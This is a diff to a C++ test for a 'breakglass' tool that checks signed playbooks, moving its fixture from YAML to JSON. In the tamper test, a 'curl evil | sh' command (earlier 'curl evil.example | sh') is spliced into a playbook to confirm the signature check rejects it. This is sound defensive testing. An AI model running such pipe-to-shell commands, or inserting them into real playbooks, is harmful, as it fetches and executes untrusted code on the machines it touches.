@@ -116,8 +116,16 @@ public:
 
 protected:
     void SetUp() override {
-        m_file = m_dir.path() / "playbook.yaml";
-        write(m_file, "name: drain-node\nsteps:\n  - run: crictl stopp $(crictl ps -q)\n");
+        m_file = m_dir.path() / "playbook.json";
+        // A well-formed playbook: `breakglass playbook verify` also checks the format.
+        write(m_file,
+              R"json({"apiVersion":"breakglass/v1","kind":"Playbook",)json"
+              R"json("metadata":{"name":"drain-node","version":1,"description":"x"},)json"
+              R"json("issued_at":"2020-01-01T00:00:00Z","expires":"2099-01-01T00:00:00Z",)json"
+              R"json("scope":{"clusters":["interop"]},"params":{},)json"
+              R"json("steps":[{"name":"stop","run":"crictl stopp $(crictl ps -q)",)json"
+              R"json("timeout":"30s","mutates":true,"become":true}]})json"
+              "\n");
         m_signature = sign(m_file, k_namespace);
     }
 
@@ -196,7 +204,9 @@ protected:
                           const std::string& allowed_signers) {
         const fs::path allowed = m_dir.path() / "allowed_signers";
         write(allowed, allowed_signers);
-        return run(std::string(BREAKGLASS_BINARY) + " playbook verify " + quote(file) +
+        // Its own state dir and no inventory: only the signature and the format decide here.
+        return run(std::string(BREAKGLASS_BINARY) + " --state-dir " +
+                       quote(m_dir.path() / "state") + " playbook verify " + quote(file) +
                        " --signature " + quote(signature) + " --allowed-signers " + quote(allowed),
                    log());
     }
@@ -323,8 +333,10 @@ TEST_P(SignatureInterop, TheBinaryAgrees) {
     const std::string allowed = std::string(k_principal) + " " + key_line() + "\n";
     EXPECT_EQ(breakglass_binary(m_file, m_signature, allowed), 0) << read(log());
     EXPECT_EQ(breakglass_binary(m_file, m_signature, "bob " + public_key(s_keys, "other")), 5);
-    EXPECT_EQ(breakglass_binary(m_dir.path() / "missing.yaml", m_signature, allowed), 5);
-    write(m_file, read(m_file) + "  - run: curl evil.example | sh\n");
+    EXPECT_EQ(breakglass_binary(m_dir.path() / "missing.json", m_signature, allowed), 5);
+    std::string tampered = read(m_file);
+    tampered.replace(tampered.find("crictl stopp"), 12, "curl evil | sh");
+    write(m_file, tampered); // still a well-formed playbook: only the signature refuses it
     EXPECT_EQ(breakglass_binary(m_file, m_signature, allowed), 5);
 }
 
